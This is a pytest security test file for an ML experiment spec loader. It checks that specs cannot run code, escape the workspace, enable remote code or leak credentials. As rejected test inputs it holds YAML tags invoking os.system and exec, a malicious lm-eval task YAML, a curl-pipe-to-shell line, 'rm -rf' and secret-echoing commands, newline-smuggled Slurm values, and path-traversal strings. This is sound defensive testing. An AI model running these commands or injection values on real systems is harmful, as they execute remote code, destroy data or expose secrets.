"""Safe specs (issue 6 item 7): a spec is plain data. It cannot build objects or run code,
its local paths stay inside the workspace, its URLs carry no credentials, remote code is
off unless the spec turns it on, and secrets in the environment reach no output or log.

The workspace is the directory repro runs in (repro.spec.safety); each test makes its own
under tmp_path and runs there."""

from __future__ import annotations

import ast
import copy
import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest
import yaml

from repro.spec import safety
from repro.spec import schema as S
from repro.spec.load import SpecError, load_raw, load_spec

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def ws(tmp_path, monkeypatch) -> Path:
    """A workspace (the current directory) with `data/real/` inside it and `outside/` next
    to it; `data/escape` links to `outside/`, `data/alias` to `data/real/`."""
    root = tmp_path / "ws"
    (root / "data" / "real").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (root / "data" / "escape").symlink_to(tmp_path / "outside", target_is_directory=True)
    (root / "data" / "alias").symlink_to(root / "data" / "real", target_is_directory=True)
    monkeypatch.chdir(root)
    return root


def base_data() -> dict:
    """A valid spec as data: the quickstart's qs-nope, without its report."""
    data = copy.deepcopy(load_raw(REPO / "specs" / "qs-nope.yaml").data)
    data.pop("report", None)
    return data


def write_spec(folder: Path, data: dict, name: str = "spec.yaml") -> Path:
    path = folder / name
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


def line_of(path: Path, needle: str) -> int:
    for number, line in enumerate(path.read_text().splitlines(), 1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in {path}")


def one_issue(path: Path):
    with pytest.raises(SpecError) as e:
        load_spec(path)
    assert len(e.value.issues) == 1, e.value
    return e.value.issues[0]


def with_source(source: dict) -> dict:
    data = base_data()
    data["datasets"]["extra"] = {"source": source}
    return data


# --------------------------------------------------------------------------- 1. YAML tags

TAGGED = [
    "experiment: !!python/object/apply:os.system ['touch {marker}']\n",
    "experiment: !!python/object/new:subprocess.Popen [['touch', '{marker}']]\n",
    "experiment: !!python/name:os.system\n",
    "experiment:\n  name: !!python/object/apply:builtins.exec [\"open('{marker}', 'w')\"]\n",
    "evaluation:\n  tasks: [!function utils.touch]\n",
    "model: !include other.yaml\n",
    "datasets: !!set {{web: null}}\n",
]


@pytest.mark.parametrize("text", TAGGED)
def test_yaml_tags_are_refused_never_executed(tmp_path, text):
    marker = tmp_path / "executed"
    (tmp_path / "utils.py").write_text(f"open({str(marker)!r}, 'w')\ndef touch(doc): return doc\n")
    (tmp_path / "other.yaml").write_text("hidden_size: 64\n")
    spec = tmp_path / "tagged.yaml"
    spec.write_text("schema_version: 1\n" + text.format(marker=marker))
    issue = one_issue(spec)
    assert "YAML tag" in issue.message and "not allowed" in issue.message
    assert issue.line == 2 or issue.line == 3  # the tagged node, not the top of the file
    assert "no objects, no code" in issue.fix
    assert not marker.exists()


def test_a_tag_in_an_extended_base_is_refused_too(tmp_path):
    marker = tmp_path / "executed"
    (tmp_path / "base.yaml").write_text(
        f"schema_version: 1\nmodel: !!python/object/apply:os.system ['touch {marker}']\n")
    child = tmp_path / "child.yaml"
    child.write_text("extends: base.yaml\nexperiment: {name: x}\n")
    issue = one_issue(child)
    assert issue.file.endswith("base.yaml") and issue.line == 2 and "YAML tag" in issue.message
    assert not marker.exists()


# ---------------------------------------------------------------- 2. names, not code


def _set(data: dict, dotted: str, value) -> None:
    keys = [int(k) if k.isdigit() else k for k in dotted.split(".")]
    for k in keys[:-1]:
        data = data[k]
    data[keys[-1]] = value


UNKNOWN_NAMES = [
    ("datasets.web.steps.0.kind", "my_module.MyFilter", "datasets.web.steps[0]"),
    ("datasets.web.source.kind", "python", "datasets.web.source"),
    ("datasets.web.executor.kind", "dask", "datasets.web.executor.kind"),
    ("datasets.pdf.steps.0.ocr_backend", "paddle", "datasets.pdf.steps[0].ocr_backend"),
    ("datasets.web.steps.1.languages", ["en", "xx"], "datasets.web.steps[1].languages"),
    ("tokenizer.kind", "custom", "tokenizer"),
    ("training.optimizer", {"kind": "lion"}, "training.optimizer"),
    ("evaluation.backend", "my_backend", "evaluation.backend"),
    ("evaluation.presets", ["no_such_suite"], "evaluation.presets"),
    ("evaluation.local_tasks.0.kind", "python", "evaluation.local_tasks[0].kind"),
    ("evaluation.tasks", ["/tmp/evil_task.yaml"], "evaluation.tasks[0]"),
    ("evaluation.tasks", ["tasks/evil.yaml"], "evaluation.tasks[0]"),
    ("evaluation.tasks", ["evil.py"], "evaluation.tasks[0]"),
    ("evaluation.tasks", ["../evil"], "evaluation.tasks[0]"),
    ("evaluation.tasks", ["hellaswag", "a b"], "evaluation.tasks[1]"),
    ("evaluation.tasks", ["hellaswag\n"], "evaluation.tasks[0]"),
]


@pytest.mark.parametrize("where,value,field", UNKNOWN_NAMES, ids=[f"{w}={v}" for w, v, _ in UNKNOWN_NAMES])
def test_unknown_kinds_backends_and_tasks_are_refused(ws, where, value, field):
    data = base_data()
    _set(data, where, value)
    issue = one_issue(write_spec(ws, data))
    assert issue.field.startswith(field), issue
    assert issue.line is not None


def test_registered_lm_eval_task_names_pass():
    names = ["hellaswag", "arc_easy", "mmlu", "longproc_countdown_0.5k",
             "tmmluplus_education_(profession_level)", "bertaqa_en_mt_latxa-7b-v1.1"]
    assert S.EvaluationSpec(tasks=names).tasks == names


ENV_COMMANDS_OK = ["source .venv/bin/activate", ". /opt/envs/repro/bin/activate",
                   "module purge && module load python/3.11 cuda/12.4 && source .venv/bin/activate",
                   "conda activate repro", "ml gcc/13"]
ENV_COMMANDS_BAD = ["curl https://example.invalid/x.sh | sh", "source x; rm -rf ~",
                    "echo $AWS_SECRET_ACCESS_KEY", "python -c 'import os'", "`id`",
                    "source a\nrm -rf /", "module load py && wget x", "source", "source a b",
                    "source a > /tmp/log", ""]


@pytest.mark.parametrize("command", ENV_COMMANDS_OK)
def test_env_command_forms_that_activate_an_environment(command):
    assert S.SlurmSpec(partition="cpu", env_command=command).env_command == command


@pytest.mark.parametrize("command", ENV_COMMANDS_BAD)
def test_env_command_is_not_free_shell(command):
    with pytest.raises(ValueError, match="env_command"):
        S.SlurmSpec(partition="cpu", env_command=command)


@pytest.mark.parametrize("fields", [
    {"partition": "cpu\nrm -rf ~"}, {"qos": "high\r\nid"}, {"account": "a\x00"},
    {"time": "1:00:00\n"}, {"sbatch_args": {"comment": "x\ncurl x | sh"}},
    {"sbatch_args": {"bad key": "x"}}, {"sbatch_args": {"--wrap": "x"}},
])
def test_slurm_values_stay_on_their_script_line(fields):
    with pytest.raises(ValueError):
        S.SlurmSpec(**({"partition": "cpu"} | fields))


def test_valid_slurm_settings_reach_the_job_script(tmp_path):
    from repro.data.executors import PassRunner

    slurm = S.SlurmSpec(partition="cpu", qos="high", sbatch_args={"constraint": "zen4&avx512"},
                        env_command="module load python/3.11 && source .venv/bin/activate")
    executor = PassRunner(S.ExecutorSpec(kind="slurm", slurm=slurm), tmp_path, "d").build(
        [], 1, tmp_path / "logs")
    script = executor.get_launch_file_contents(executor.get_sbatch_args(), "RUN")
    lines = [line.strip() for line in script.splitlines() if line.strip()]
    assert "#SBATCH --constraint=zen4&avx512" in lines
    assert "module load python/3.11 && source .venv/bin/activate" in lines


def test_stage_kinds_come_from_the_registry():
    from repro.stages import kind, kinds

    assert callable(kind("split").run) and "split" in kinds()
    for name in ("os", "..cli", "base", "kind", "configs", "repro.cli"):
        with pytest.raises(ValueError, match="unknown stage kind"):
            kind(name)


def test_ocr_backends_come_from_the_registry():
    from repro.data.pdf import ocr_backend

    with pytest.raises(ValueError, match="unknown OCR backend"):
        ocr_backend("os.system", 200)


def test_lm_eval_never_loads_a_task_from_a_path(tmp_path):
    """lm-eval takes a task string it does not know as the path of a task YAML, and a YAML's
    `!function` imports Python from beside it. load_tasks only loads registered names."""
    from lm_eval.tasks import TaskManager

    from repro.eval.lm_eval_runner import TaskUnavailableError, load_tasks

    evil = tmp_path / "evil"
    evil.mkdir()
    marker = tmp_path / "imported"
    (evil / "payload.py").write_text(f"open({str(marker)!r}, 'w').close()\n"
                                     "def doc_to_text(doc):\n    return doc['text']\n")
    (evil / "data.jsonl").write_text('{"text": "a"}\n')
    task_yaml = evil / "evil.yaml"
    task_yaml.write_text(textwrap.dedent(f"""\
        task: evil
        dataset_path: json
        dataset_kwargs: {{data_files: {{test: {evil / 'data.jsonl'}}}}}
        test_split: test
        output_type: loglikelihood_rolling
        doc_to_text: !function payload.doc_to_text
        doc_to_target: text
        """))
    empty = tmp_path / "tasks"
    empty.mkdir()
    tm = TaskManager(include_path=str(empty), include_defaults=False)
    with pytest.raises(TaskUnavailableError, match="no task, group or tag named"):
        load_tasks(tm, [str(task_yaml)], standard={str(task_yaml)})
    with pytest.raises(TaskUnavailableError, match="no evaluation task could be loaded"):
        load_tasks(tm, [str(task_yaml)], standard={str(task_yaml)}, on_error="record")
    assert not marker.exists()
    # what the guard prevents: lm-eval itself builds the task and imports the module
    try:
        tm.load([str(task_yaml)])
    except Exception:  # noqa: BLE001 - building may fail later; the import came first
        pass
    assert marker.exists()


# Every dynamic import, and every model/tokenizer loading call, in the package: a new one
# must be added here after review (does a spec string reach it? is remote code off?).
DYNAMIC_IMPORTS = {
    # registry-checked kind (a module of repro.stages declaring KIND), see
    # test_stage_kinds_come_from_the_registry
    ("repro/stages/__init__.py", "kind"),
    ("repro/stages/__init__.py", "kinds"),
    # standard-library module names from sys.stdlib_module_names, never from a spec
    ("repro/data/pydoc_web.py", "_import"),
    # a module of the constant repro.cli.LAZY_VERBS, for a verb name found in it
    ("repro/cli.py", "get_command"),
}
LOADS_WITHOUT_TRUST_FLAG: set[tuple[str, str]] = set()  # every load passes the flag
FORBIDDEN_CALLS = {"eval", "exec", "execfile", "run_path", "run_module", "exec_module",
                   "spec_from_file_location", "unsafe_load", "full_load"}


def _calls(path: Path) -> list[tuple[str, str | None, ast.Call]]:
    """(innermost enclosing function, called name, call) of every call in a module."""
    out = []

    class Visitor(ast.NodeVisitor):
        owner = "<module>"

        def visit_FunctionDef(self, node):  # noqa: N802 - ast's naming
            outer, self.owner = self.owner, node.name
            self.generic_visit(node)
            self.owner = outer

        visit_AsyncFunctionDef = visit_FunctionDef  # noqa: N815

        def visit_Call(self, node):  # noqa: N802
            f = node.func
            out.append((self.owner, f.id if isinstance(f, ast.Name) else getattr(f, "attr", None),
                        node))
            self.generic_visit(node)

    Visitor().visit(ast.parse(path.read_text(encoding="utf-8")))
    return out


def test_no_spec_string_reaches_import_machinery_or_remote_code():
    dynamic, loads, forbidden = set(), set(), []
    for path in sorted((REPO / "repro").rglob("*.py")):
        rel = path.relative_to(REPO).as_posix()
        for owner, name, node in _calls(path):
            where = f"{rel}:{node.lineno} in {owner}"
            if name in FORBIDDEN_CALLS and not (name == "eval" and isinstance(node.func, ast.Attribute)):
                forbidden.append(where)  # (`model.eval()` is torch's, not the builtin)
            elif name in ("import_module", "__import__"):
                literal = node.args and isinstance(node.args[0], ast.Constant)
                if not literal:
                    dynamic.add((rel, owner))
            elif name in ("load", "loads") and isinstance(node.func, ast.Attribute):
                base = ast.unparse(node.func.value)
                kws = {k.arg: k.value for k in node.keywords}
                if base in ("pickle", "marshal", "dill", "cloudpickle"):
                    forbidden.append(where)
                if base == "yaml" and name == "load":
                    forbidden.append(where)
                if base == "torch" and not (isinstance(kws.get("weights_only"), ast.Constant)
                                            and kws["weights_only"].value is True):
                    forbidden.append(where)
            elif name == "from_pretrained":
                kws = {k.arg: k.value for k in node.keywords}
                flag = kws.get("trust_remote_code")
                if flag is None:
                    loads.add((rel, owner))
                elif isinstance(flag, ast.Constant) and flag.value is not False:
                    forbidden.append(f"{where}: trust_remote_code={flag.value!r}")
    assert forbidden == []
    assert dynamic == DYNAMIC_IMPORTS
    assert loads <= LOADS_WITHOUT_TRUST_FLAG


# ------------------------------------------------------------------ 3. paths in the workspace

OUTSIDE_SOURCES = [
    ({"kind": "files", "path": "/etc"}, "/etc", "outside the workspace"),
    ({"kind": "jsonl", "path": "../../outside"}, "../../outside", "climbs out"),
    ({"kind": "jsonl", "path": "data/../../outside"}, "data/../../outside", "climbs out"),
    ({"kind": "warc", "path": "data/escape"}, "data/escape", "symlink"),
    ({"kind": "parquet", "path": "data/escape/deeper"}, "data/escape/deeper", "symlink"),
    ({"kind": "files", "path": "file:///etc"}, "file:///etc", "outside the workspace"),
    ({"kind": "files", "path": "~/corpus"}, "~/corpus", "outside the workspace"),
    ({"kind": "hf_dataset", "repo": "/etc"}, "/etc", "outside the workspace"),
    ({"kind": "hf_dataset", "repo": "../datasets/x"}, "../datasets/x", "climbs out"),
]


@pytest.mark.parametrize("source,value,problem", OUTSIDE_SOURCES, ids=[v for _, v, _ in OUTSIDE_SOURCES])
def test_local_source_outside_the_workspace_is_refused(ws, tmp_path, monkeypatch, source, value, problem):
    monkeypatch.setenv("HOME", str(tmp_path / "outside"))
    path = write_spec(ws, with_source(source))
    issue = one_issue(path)
    key = "repo" if source["kind"] == "hf_dataset" else "path"
    assert issue.field == f"datasets.extra.source.{key}"
    assert issue.line == line_of(path, f"{key}: {value}")
    assert problem in issue.message
    assert "inside the workspace" in issue.fix or "copy the data into the workspace" in issue.fix
    assert "remote URL" in issue.fix


INSIDE_SOURCES = [
    {"kind": "jsonl", "path": "data/real"},
    {"kind": "jsonl", "path": "./data/real/../real"},
    {"kind": "files", "path": "data/alias"},  # a link that stays inside
    {"kind": "files", "path": "data/not-downloaded-yet"},  # existence is checked at run time
    {"kind": "warc", "path": "s3://commoncrawl/crawl-data/", "glob": "*/warc/*.warc.gz"},
    {"kind": "parquet", "path": "hf://datasets/HuggingFaceFW/fineweb@main/data"},
    {"kind": "jsonl", "path": "gs://bucket/prefix"},
    {"kind": "files", "path": "https://example.invalid/files?page=2"},
    {"kind": "hf_dataset", "repo": "HuggingFaceFW/fineweb-edu"},
    {"kind": "hf_dataset", "repo": "data/real"},
]


@pytest.mark.parametrize("source", INSIDE_SOURCES, ids=lambda s: s.get("path") or s.get("repo"))
def test_workspace_paths_and_remote_urls_pass(ws, source):
    spec = load_spec(write_spec(ws, with_source(source)))
    dumped = spec.datasets["extra"].source.model_dump()
    assert {k: dumped[k] for k in source} == source


def test_absolute_paths_inside_the_workspace_pass(ws):
    for path in (str(ws / "data" / "real"), "file://" + str(ws / "data" / "real")):
        spec = load_spec(write_spec(ws, with_source({"kind": "jsonl", "path": path})))
        assert spec.datasets["extra"].source.path == path


def test_glob_stays_under_its_path(ws):
    for glob in ("../*.jsonl", "/etc/*", "a/../../b"):
        issue = one_issue(write_spec(ws, with_source({"kind": "jsonl", "path": "data/real",
                                                      "glob": glob})))
        assert issue.field == "datasets.extra.source.glob" and "outside the source folder" in issue.message


@pytest.mark.parametrize("field,value,problem", [
    ("tokenizer", {"kind": "pretrained", "name_or_path": "../tokenizers/gpt2"}, "climbs out"),
    ("tokenizer", {"kind": "pretrained", "name_or_path": "/etc"}, "outside the workspace"),
    ("teacher", "../teacher/final", "climbs out"),
    ("teacher", "/etc", "outside the workspace"),
    ("teacher", "./data/escape", "symlink"),
])
def test_model_and_tokenizer_paths_are_local_paths_too(ws, field, value, problem):
    data = base_data()
    if field == "tokenizer":
        data["tokenizer"] = value
    else:
        data["training"]["distillation"] = {"teacher": value}
    issue = one_issue(write_spec(ws, data))
    assert issue.field == ("tokenizer.name_or_path" if field == "tokenizer"
                           else "training.distillation.teacher")
    assert problem in issue.message and issue.line is not None


def test_hub_revision_is_a_name_not_a_path():
    for revision in ("main", "refs/pr/12", "v1.0", "0123abcd"):
        assert S.PretrainedTokenizer(name_or_path="org/tok", revision=revision).revision == revision
    for revision in ("../../x", "refs/../../x", "/etc", "main\n"):
        with pytest.raises(ValueError, match="not a hub branch"):
            S.PretrainedTokenizer(name_or_path="org/tok", revision=revision)


@pytest.mark.parametrize("teacher", ["experiment:qs-teacher", "./data/real", "HuggingFaceTB/SmolLM3-3B"])
def test_teacher_names_inside_the_workspace_pass(ws, teacher):
    data = base_data()
    data["training"]["distillation"] = {"teacher": teacher}
    assert load_spec(write_spec(ws, data)).training.distillation.teacher == teacher


@pytest.mark.parametrize("where", ["report", "dataset", "experiment", "stage"])
def test_output_locations_come_from_names_not_paths(ws, where):
    """Outputs are built by repro.paths from names; a name cannot be a path."""
    data = base_data()
    bad = "../../etc"
    if where == "report":
        data["report"] = {"name": bad, "experiments": ["qs-nope"], "baseline": "qs-nope"}
    elif where == "dataset":
        data["datasets"][bad] = data["datasets"].pop("code")
    elif where == "experiment":
        data["experiment"]["name"] = bad
    else:
        data["training"]["stages"][0]["name"] = bad
    with pytest.raises(SpecError, match="should match pattern"):
        load_spec(write_spec(ws, data))


def test_workspace_comes_from_the_validation_context(tmp_path):
    """Without a context the workspace is the current directory; a caller can name it."""
    elsewhere = tmp_path / "project"
    (elsewhere / "data").mkdir(parents=True)
    data = with_source({"kind": "jsonl", "path": str(elsewhere / "data")})
    spec = S.ExperimentSpec.model_validate(data, context={"workspace": elsewhere})
    assert spec.datasets["extra"].source.path == str(elsewhere / "data")
    with pytest.raises(ValueError, match="outside the workspace"):
        S.ExperimentSpec.model_validate(data, context={"workspace": REPO})
    assert safety.current_workspace() is None  # reset after validation, even on error


def test_models_built_in_code_get_the_checks_that_need_no_workspace(tmp_path):
    """A source built in Python (tests, library use) may name any absolute path; `..`
    and credentials are refused everywhere."""
    assert S.JsonlSource(path=str(tmp_path)).path == str(tmp_path)
    with pytest.raises(ValueError, match="climbs out"):
        S.JsonlSource(path="../x")
    with pytest.raises(ValueError, match="credentials"):
        S.JsonlSource(path="s3://key:secret@bucket/x")


def test_shipped_specs_validate_unchanged_from_the_repository_root(monkeypatch):
    monkeypatch.chdir(REPO)
    for path in sorted((REPO / "specs").rglob("*.yaml")):
        load_spec(path.relative_to(REPO))


def test_curate_stage_refuses_a_source_that_leads_outside_at_run_time(ws, tmp_path):
    """params.yaml can be changed after validation (`dvc exp run -S`), and a link can be
    made later: the stage checks the real location again before reading."""
    from repro.data.source_check import SourceError, check_source

    (tmp_path / "outside" / "a.jsonl").write_text('{"id": "a", "text": "secret diary"}\n')
    (ws / "data" / "real" / "b.jsonl").write_text('{"id": "b", "text": "fine"}\n')
    check_source(S.JsonlSource(path="data/real"), workspace=ws)
    check_source(S.JsonlSource(path="data/alias"), workspace=ws)
    for path in ("data/escape", str(tmp_path / "outside")):
        with pytest.raises(SourceError, match="outside the workspace"):
            check_source(S.JsonlSource(path=path), workspace=ws)


# ------------------------------------------------------------------- 4. trust_remote_code


def test_remote_code_is_off_unless_the_spec_sets_it(monkeypatch):
    import inspect

    from repro.data.readers import source_reader
    from repro.eval.lm_eval_runner import model_spec
    from repro.stages import tokenizer as tokenizer_stage
    from repro.train.distill import load_teacher

    assert S.DistillationSpec(teacher="org/teacher").trust_remote_code is False
    assert inspect.signature(load_teacher).parameters["trust_remote_code"].default is False
    for backend in ("hf", "accelerate", "vllm"):
        assert model_spec(backend, Path("ckpt"), max_length=None, seed=0)[1]["trust_remote_code"] is False
    reader = source_reader(S.HFDatasetSource(repo="org/data"), None, progress=False)
    assert reader.dataset_options["trust_remote_code"] is False

    seen = {}

    def fake_from_pretrained(name, **kwargs):
        seen.update(kwargs, name=name)
        return "tokenizer"

    import transformers

    monkeypatch.setattr(transformers.AutoTokenizer, "from_pretrained", fake_from_pretrained)
    assert tokenizer_stage.load_pretrained("org/tok", None) == "tokenizer"
    assert seen["trust_remote_code"] is False


# The warning when a spec turns it on: tests/train/test_distill.py
# (test_load_teacher_warns_about_remote_code).


# --------------------------------------------------------------------- 5. credentials

SECRET = "s3cr3t-VALUE-9f8e7d"

CREDENTIAL_URLS = [
    f"s3://AKIAEXAMPLE:{SECRET}@bucket/prefix",
    f"https://user:{SECRET}@data.example.invalid/crawl/",
    f"https://{SECRET}@data.example.invalid/crawl/",
    f"https://data.example.invalid/crawl/?token={SECRET}",
    f"https://bucket.s3.amazonaws.com/x?X-Amz-Algorithm=AWS4&X-Amz-Credential=AKIA%2F&X-Amz-Signature={SECRET}",
    f"https://storage.googleapis.com/b/x?X-Goog-Signature={SECRET}",
    f"https://acct.blob.core.windows.net/c?sv=2022&sig={SECRET}",
    f"hf://datasets/org/name?access_token={SECRET}",
]


@pytest.mark.parametrize("url", CREDENTIAL_URLS)
def test_credentials_in_urls_are_refused_without_echoing_them(ws, url):
    path = write_spec(ws, with_source({"kind": "jsonl", "path": url}))
    with pytest.raises(SpecError) as e:
        load_spec(path)
    (issue,) = e.value.issues
    assert issue.field == "datasets.extra.source.path" and issue.line is not None
    assert "credentials" in issue.message
    assert "environment" in issue.fix and "AWS_SECRET_ACCESS_KEY" in issue.fix
    assert SECRET not in str(e.value) and SECRET not in repr(e.value.issues)
    with pytest.raises(ValueError) as raw:  # pydantic's own text leaves the input out too
        S.JsonlSource(path=url)
    assert SECRET not in str(raw.value)


@pytest.mark.parametrize("field,value", [
    ("tokenizer", {"kind": "pretrained", "name_or_path": f"https://u:{SECRET}@models.example.invalid/tok"}),
    ("teacher", f"https://models.example.invalid/t?api_key={SECRET}"),
    ("ray", f"ray://admin:{SECRET}@head:10001"),
])
def test_credentials_are_refused_in_every_url_field(ws, field, value):
    data = base_data()
    if field == "tokenizer":
        data["tokenizer"] = value
    elif field == "teacher":
        data["training"]["distillation"] = {"teacher": value}
    else:
        data["datasets"]["web"]["executor"] = {"kind": "ray", "ray": {"address": value}}
    with pytest.raises(SpecError) as e:
        load_spec(write_spec(ws, data))
    assert "credentials" in str(e.value) and SECRET not in str(e.value)


def test_redact_hides_userinfo_and_secret_query_values():
    from repro.data.source_check import redact

    for url in CREDENTIAL_URLS:
        assert SECRET not in redact(url), url
    assert redact("https://h/x?page=2&token=abc") == "https://h/x?page=2&token=***"
    assert redact("s3://bucket/key") == "s3://bucket/key"


SECRETS = {"AWS_SECRET_ACCESS_KEY": "aws-" + SECRET, "AWS_ACCESS_KEY_ID": "AKIA" + SECRET.upper(),
           "HF_TOKEN": "hf_" + SECRET, "GITHUB_TOKEN": "ghp_" + SECRET}


def _grep_tree(root: Path, needles: list[str]) -> list[str]:
    hits = []
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            hits += [f"{path}: {n}" for n in needles if n.encode() in data]
    return hits


@pytest.mark.slow
def test_secrets_in_the_environment_reach_no_output_log_or_metric(ws, monkeypatch, request):
    """Compile the shipped specs and run a curate stage through the CLI (validation,
    datatrove passes with their logs, funnel metrics, samples, environment fingerprint)
    with secrets in the environment, plus
    the builtin corpora's pages of `os` (whose `environ` holds them): the secret values
    appear nowhere in the outputs, the metrics, the stage's stdout/stderr or datatrove's
    logs."""
    source = ws / "data" / "real"
    lines = [json.dumps({"id": f"d{i}", "text": f"Document {i} says hello to the reader. " * 5})
             for i in range(6)]
    (source / "docs.jsonl").write_text("\n".join(lines[:3] + ["{broken"] + lines[3:]) + "\n")
    params = {"curate-x": {
        "dataset": "x", "source": {"kind": "jsonl", "path": "data/real"},
        "steps": [{"kind": "exact_dedup"}], "shards": 1,
        "executor": {"kind": "local", "tasks": 1, "workers": 1}}}
    (ws / "stage-params.yaml").write_text(yaml.safe_dump(params))
    # the stage's temporary work folder (datatrove logs), on a short path: datatrove's
    # process manager puts a Unix socket in it, whose path may not exceed 107 bytes, and
    # tmp_path under pytest-xdist (…/popen-gw1/test_secrets_in_the_environmen0/…) is too long
    scratch = Path(tempfile.mkdtemp(prefix="repro-safety-"))
    request.addfinalizer(lambda: shutil.rmtree(scratch, ignore_errors=True))
    env = dict(os.environ, **SECRETS, TMPDIR=str(scratch), PYTHONPATH=str(REPO))
    # the shipped specs compiled with the secrets in the environment: dvc.yaml, params.yaml
    shutil.copytree(REPO / "specs", ws / "specs")
    compiled = subprocess.run([sys.executable, "-m", "repro.cli", "compile"], cwd=ws, env=env,
                              capture_output=True)
    assert compiled.returncode == 0, compiled.stderr.decode()[-3000:]
    assert (ws / "params.yaml").is_file() and (ws / "dvc.yaml").is_file()
    proc = subprocess.Popen(
        [sys.executable, "-m", "repro.cli", "stage", "curate", "curate-x", "--params",
         "stage-params.yaml",
         "--out", "docs=out/docs", "--out", "metrics=out/metrics.json", "--out", "env=out/env.json"],
        cwd=ws, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    # datatrove's logs live in the scratch folder until the stage ends: read them while it runs
    logs: dict[str, bytes] = {}
    while proc.poll() is None:
        time.sleep(0.05)
        for folder, _, files in os.walk(scratch):  # (os.walk skips folders that vanish)
            for name in files:
                try:
                    logs[os.path.join(folder, name)] = Path(folder, name).read_bytes()
                except OSError:
                    pass
    out, err = proc.communicate()
    assert proc.returncode == 0, err.decode()[-3000:]
    metrics = json.loads((ws / "out" / "metrics.json").read_text())
    assert metrics["read_skipped"] == {"invalid_json": 1} and metrics["docs_out"] == 6
    assert b"skipped (invalid_json)" in err  # the stage did log
    assert any("logs" in p for p in logs), "datatrove's logs were not seen"
    needles = list(SECRETS.values())
    assert _grep_tree(ws, needles) == []
    streams = out + err + compiled.stdout + compiled.stderr
    assert [n for n in needles if n.encode() in streams] == []
    assert [(p, n) for p, data in logs.items() for n in needles if n.encode() in data] == []

    # the builtin corpora render the standard library's docs, `os.environ` included
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    import os as os_module

    from repro.data import pydoc_pdf, pydoc_web

    page = pydoc_web.module_page("os", os_module)
    text = pydoc_pdf.module_text("os", os_module, limit=None)
    assert "environ" in text and page is not None
    assert [n for n in needles if n in page.html or n in text] == []
